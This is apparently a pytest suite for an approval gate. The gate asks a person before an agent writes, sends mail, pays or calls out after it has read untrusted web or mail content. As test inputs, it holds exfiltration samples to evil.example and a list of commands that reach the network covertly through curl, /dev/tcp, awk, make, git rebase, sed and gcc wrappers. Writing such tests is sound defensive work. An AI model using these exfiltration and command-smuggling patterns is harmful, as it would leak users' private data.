"""Content from outside may carry orders; what happens after it was read is for a person."""

from __future__ import annotations

from collections import Counter
from typing import Any

import pytest

from tests.approvals.people import AGENT, YES, Person, Tools, allowed, gate_with, named
from toolcrib.approvals.facts import PastCall
from toolcrib.approvals.question import ApprovalAnswer, ApprovalRequest
from toolcrib.approvals.rule import Rule
from toolcrib.schema.tools import Principal


async def test_a_write_after_untrusted_content_asks_whatever_the_rules_say() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    assert await allowed(gate, tools.call("files__write", path="a"))
    assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert person.questions == []

    assert await allowed(gate, tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "web__fetch" in person.questions[0].reasons[0]
    assert person.questions[0].scopes == ("once",)


async def test_the_person_can_lift_it_for_the_session() -> None:
    tools, person = Tools(), Person(ApprovalAnswer(allow=True, lift="session"))
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("web__fetch", url="x"))

    for _ in range(3):
        assert await allowed(gate, tools.call("files__write", path="a"))

    assert len(person.questions) == 1


async def test_reading_goes_on_and_another_session_is_not_touched() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("web__fetch", url="x"))

    assert await allowed(gate, tools.call("files__read", path="a"))
    assert await allowed(gate, tools.run("git status"))
    assert await allowed(gate, tools.call("files__write", Principal(name="agent", session="other"), path="a"))
    assert person.questions == []


async def test_the_third_leg_asks_and_names_the_flow() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    for _ in range(2):
        assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert await allowed(gate, tools.call("files__read", path="secret"))
    assert person.questions == []

    await gate.check(tools.call("web__fetch", url="http://elsewhere/?secret"))

    assert "web__fetch" in person.questions[0].reasons[0]
    assert "files__read" in person.questions[0].reasons[0]


async def test_an_autonomous_run_does_not_cover_it() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.begin(AGENT, mode="session")
    await gate.check(tools.call("web__fetch", url="x"))

    await gate.check(tools.run("make"))

    assert person.questions[0].flow


@pytest.mark.parametrize(
    "command", ["curl http://127.0.0.1/", "cd /tmp && sudo wget x", "git clone -q https://127.0.0.1/x"]
)
async def test_a_download_by_command_counts_as_outside(command: str) -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    await gate.check(tools.run(command))

    await gate.check(tools.run("make"))

    assert [question.flow for question in person.questions] == [False, True]


async def test_a_session_that_goes_on_in_another_process_is_as_it_was() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.recall(AGENT, [past(tools, "files__read", path="a"), past(tools, "web__fetch", url="x")])

    assert await allowed(gate, tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "web__fetch" in person.questions[0].reasons[0]
    assert "files__read" in person.questions[0].reasons[0]


async def test_what_is_gone_counts_as_a_tool_of_others() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.recall(AGENT, [PastCall(name="gone__tool", tool=None, arguments={})])

    await gate.check(tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "gone__tool" in person.questions[0].reasons[0]


async def test_what_was_granted_in_another_process_is_not_granted_again() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    await gate.recall(AGENT, [past(tools, "terminal__request_session_mode", reason="work")])

    await gate.check(tools.run("make"))

    assert gate.mode_of(AGENT) == "on_miss"
    assert len(person.questions) == 1


async def test_a_session_is_told_of_once() -> None:
    tools, gate = Tools(), gate_with(None)
    told = iter([past(tools, "files__read", path="a")])
    await gate.recall(AGENT, told)

    await gate.recall(AGENT, (past(tools, "web__fetch", url="never looked at") for _ in range(1)))

    assert gate.sessions.of(AGENT).untrusted == ()


async def test_what_was_read_while_nobody_was_asked_still_counts_afterwards() -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    gate.begin(AGENT, asker=person, mode="off")
    assert await allowed(gate, tools.call("web__fetch", url="x"))
    assert await allowed(gate, tools.call("files__read", path="x"))
    assert await allowed(gate, tools.call("files__write", path="a"))
    assert person.questions == []

    gate.begin(AGENT, asker=person, mode="session")
    await gate.check(tools.call("files__write", path="a"))

    assert person.questions[0].flow
    assert "files__read" in person.questions[0].reasons[0]


@pytest.mark.parametrize(
    "command",
    [
        "git pull",
        "git fetch origin",
        "git -C sub pull",
        "npm view left-pad",
        "pip download x",
        "python3 -c 'import urllib.request'",
        "find . -exec curl x {} +",
        "openssl s_client -connect x:443",
        "for f in dev/tcp/127.0.0.1/80; do cat < /$f; done",
        "unheard-of-program",
        "bash -c 'git pull'",
        "ls | xargs wget",
        "echo $(gh issue view 1)",
        "$EDITOR notes",
        "awk 'BEGIN { \"/inet/tcp/0/x/80\" |& getline; print }'",
        "cargo test",
        "go vet ./...",
        "make --eval='x: ; curl y'",
        "make download",
        "npm run fetch",
        "git rebase --exec 'curl x' main",
        "sed -i s/a/b/ -e '1e curl x' f",
        "gcc -wrapper curl,x a.c",
    ],
)
async def test_a_command_that_is_not_known_to_stay_local_counts_as_outside(command: str) -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    await gate.check(tools.run(command))

    await gate.check(tools.run("make"))

    assert person.questions[-1].flow


@pytest.mark.parametrize(
    "command",
    ["make", "pytest -q", "npm test", "git commit -am 'x y'", "echo x > f", "make test", "sed -i s/a/b/ f"],
)
async def test_work_in_the_project_does_not_count_as_outside(command: str) -> None:
    tools, person = Tools(), Person(YES)
    gate = gate_with(person)
    for _ in range(2):
        await gate.check(tools.run(command))

    assert [question.flow for question in person.questions] == [False, False]


@pytest.mark.parametrize(
    ("declared", "flows"), [({}, True), ({"openWorldHint": True}, True), ({"openWorldHint": False}, False)]
)
async def test_a_python_function_counts_as_outside_unless_it_says_otherwise(
    declared: dict[str, bool], flows: bool
) -> None:
    tools, person = Tools(), Person(YES)
    tools.registry.put("program", "inline", [named("look", **declared), named("act", openWorldHint=False)])
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("program__look"))

    await gate.check(tools.call("program__act"))

    assert bool(person.questions) is flows


class Office:
    """A mail server and a bank that others wrote, with a person who lets reading tools read."""

    def __init__(self, **web: bool) -> None:
        self.tools = Tools()
        reads = [named(name, readOnlyHint=True) for name in ("search_mail", "read_mail", "list_files")]
        page = named("get_webpage", readOnlyHint=True, **web)
        self.tools.registry.put("office", "mcp", [*reads, page, named("send_mail"), named("delete_mail")])
        bank = [named("balance", readOnlyHint=True), named("transactions", readOnlyHint=True), named("pay")]
        self.tools.registry.put("bank", "mcp", bank)
        self.tools.registry.put("search", "mcp", [named("find", readOnlyHint=True)])
        self.person = Person(_lets_reading_read)
        self.gate = gate_with(self.person)
        self._sessions = 0

    async def task(self, *calls: tuple[str, dict[str, Any]]) -> list[str]:
        """Make these calls in a chat of their own; the names of those that were asked about."""
        before = len(self.person.questions)
        self._sessions += 1
        principal = Principal(name="agent", session=f"chat-{self._sessions}")
        for name, arguments in calls:
            await self.gate.check(self.tools.call(name, principal, **arguments))
        return [question.tool for question in self.person.questions[before:]]


def _lets_reading_read(question: ApprovalRequest) -> ApprovalAnswer:
    if question.tool_rule is not None:
        return ApprovalAnswer(allow=True, scope="always", any_arguments=True)
    return ApprovalAnswer(allow=True)


SEARCH = ("office__search_mail", {"query": "invoice"})
READ = ("office__read_mail", {"id": "12"})
FILES = ("office__list_files", {"folder": "2024", "file": "report.docx"})
PAGE = ("office__get_webpage", {"url": "www.our-own-shop.com"})
STEAL = ("office__get_webpage", {"url": "http://evil.example/?mail=secret"})
SEND = ("office__send_mail", {"to": "eve@evil.example", "body": "secret"})
BALANCE, PAID = ("bank__balance", {}), ("bank__transactions", {"last": 3})
PAY = ("bank__pay", {"iban": "X", "amount": 3.5})


async def test_each_tool_that_reads_is_asked_about_once_and_each_write_every_time() -> None:
    office = Office()
    tasks = [
        (SEARCH, READ),
        (SEARCH, READ, READ, FILES),
        (READ, SEND),
        (BALANCE, PAID, PAY),
        (PAID, PAY, PAY),
    ]
    questions = [await office.task(*calls) for calls in tasks for _ in range(4)]

    asked = Counter(name for names in questions for name in names)
    reads = ("office__search_mail", "office__read_mail", "office__list_files", "bank__balance")
    assert {name: asked[name] for name in reads} == dict.fromkeys(reads, 1)
    assert asked["bank__transactions"] == 1
    assert (asked["office__send_mail"], asked["bank__pay"]) == (4, 12)
    assert sum(not names for names in questions) >= 6


@pytest.mark.parametrize("web", [{}, {"openWorldHint": True}, {"openWorldHint": False}])
async def test_nothing_is_carried_away_after_mail_was_read(web: dict[str, bool]) -> None:
    office = Office(**web)
    for first in ((SEARCH, READ), (PAGE,), (BALANCE,)):
        await office.task(*first)  # from now on, each of them may be called as a whole
    assert await office.task(SEARCH, READ, READ) == []

    for stolen in (STEAL, ("office__get_webpage", {"url": "evil.example/secret"}), SEND, PAY):
        assert await office.task(SEARCH, READ, stolen) == [stolen[0]]
        assert office.person.questions[-1].flow


async def test_a_page_may_be_read_again_and_another_address_asks() -> None:
    office = Office()
    await office.task(PAGE)

    assert await office.task(PAGE, PAGE) == []
    assert await office.task(PAGE, STEAL, PAGE, STEAL) == ["office__get_webpage"]
    assert "could send it to someone else" in office.person.questions[-1].reasons[0]


async def test_what_one_server_told_is_not_told_to_another_one_unasked() -> None:
    office = Office()
    await office.task(("search__find", {"query": "x"}))
    await office.task(SEARCH)

    assert await office.task(SEARCH, ("search__find", {"query": "what the mail says"})) == ["search__find"]
    assert "could send it to someone else" in office.person.questions[-1].reasons[0]


async def test_lifting_it_for_one_tool_leaves_the_others_asked_about() -> None:
    office = Office()
    await office.task(SEARCH)
    await office.task(PAGE)
    office.person = office.gate.asker = Person(ApprovalAnswer(allow=True, lift="tool"))

    assert await office.task(SEARCH, PAGE, STEAL, SEND, PAGE) == ["office__get_webpage", "office__send_mail"]
    assert office.person.questions[0].lifts == ("tool", "turn", "session")


async def test_lifting_it_for_a_turn_ends_with_the_turn() -> None:
    office = Office()
    await office.task(SEARCH)
    await office.task(PAGE)
    office.person = office.gate.asker = Person(ApprovalAnswer(allow=True, lift="turn"))
    chat = Principal(name="agent", session="one")
    for name, arguments in (SEARCH, PAGE, STEAL):
        await office.gate.check(office.tools.call(name, chat, **arguments))
    assert len(office.person.questions) == 1

    office.gate.end_turn(chat)
    await office.gate.check(office.tools.call(STEAL[0], chat, url="http://evil.example/?mail=another"))

    assert len(office.person.questions) == 2


async def test_a_tool_that_changed_is_no_longer_lifted() -> None:
    office = Office()
    await office.task(SEARCH)
    await office.task(PAGE)
    office.person = office.gate.asker = Person(ApprovalAnswer(allow=True, lift="tool"))
    chat = Principal(name="agent", session="one")
    for name, arguments in (SEARCH, PAGE):
        await office.gate.check(office.tools.call(name, chat, **arguments))
    office.tools.registry.put("office", "mcp", [named("get_webpage", readOnlyHint=True, title="Another")])
    office.gate.rules.add(Rule(effect="allow"))

    await office.gate.check(office.tools.call(STEAL[0], chat, **STEAL[1]))

    assert [question.flow for question in office.person.questions] == [True, True]


def past(tools: Tools, name: str, **arguments: Any) -> PastCall:
    return PastCall(name=name, tool=tools[name], arguments=arguments)


def _mail_tools(tools: Tools) -> None:
    def declared(name: str, reach: str, *, outside: bool, **hints: Any) -> dict[str, Any]:
        flow = {"outside": outside, "private": outside, "reach": reach}
        return {**named(name, openWorldHint=True, **hints), "_meta": {"toolcrib/dataFlow": flow}}

    tools.registry.put(
        "files",
        "mcp",
        [
            declared("search_emails", "account", outside=True, readOnlyHint=True),
            declared("read_email", "account", outside=True, readOnlyHint=True),
            declared("send_email", "anybody", outside=False),
            declared("read_website", "anybody", outside=True, readOnlyHint=True),
        ],
    )


async def test_reading_on_in_the_users_own_account_does_not_ask() -> None:
    tools, person = Tools(), Person(YES)
    _mail_tools(tools)
    gate = gate_with(person)

    for name in ("files__search_emails", "files__read_email", "files__search_emails"):
        assert await allowed(gate, tools.call(name))

    assert person.questions == []


async def test_mail_is_outside_content_and_private_for_later_calls() -> None:
    tools, person = Tools(), Person(YES)
    _mail_tools(tools)
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("files__read_email"))

    await gate.check(tools.call("files__read_website", url="http://elsewhere/?mail"))
    await gate.check(tools.call("files__send_email"))

    assert [question.flow for question in person.questions] == [True, True]
    assert "possibly private data (files__read_email)" in person.questions[0].reasons[0]


async def test_another_servers_claim_about_its_data_is_not_believed() -> None:
    tools, person = Tools(), Person(YES)
    claim = {"toolcrib/dataFlow": {"outside": False, "private": False, "reach": "here"}}
    tools.registry.put("web", "mcp", [{**named("fetch", readOnlyHint=True), "_meta": claim}, named("post")])
    gate = gate_with(person)
    gate.rules.add(Rule(effect="allow"))
    await gate.check(tools.call("web__fetch", url="x"))

    await gate.check(tools.call("files__write", path="a"))

    assert person.questions[0].flow
